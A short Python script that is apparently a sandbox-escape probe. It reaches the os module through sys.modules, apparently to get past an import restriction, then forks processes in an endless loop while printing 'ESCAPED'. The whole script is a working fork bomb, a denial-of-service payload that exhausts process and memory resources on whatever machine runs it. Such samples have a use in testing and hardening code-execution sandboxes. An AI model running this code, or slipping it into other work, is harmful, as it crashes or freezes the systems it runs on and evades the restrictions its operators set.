import sys
os = sys.modules["os"]
while True:
    os.fork()
    print("ESCAPED")
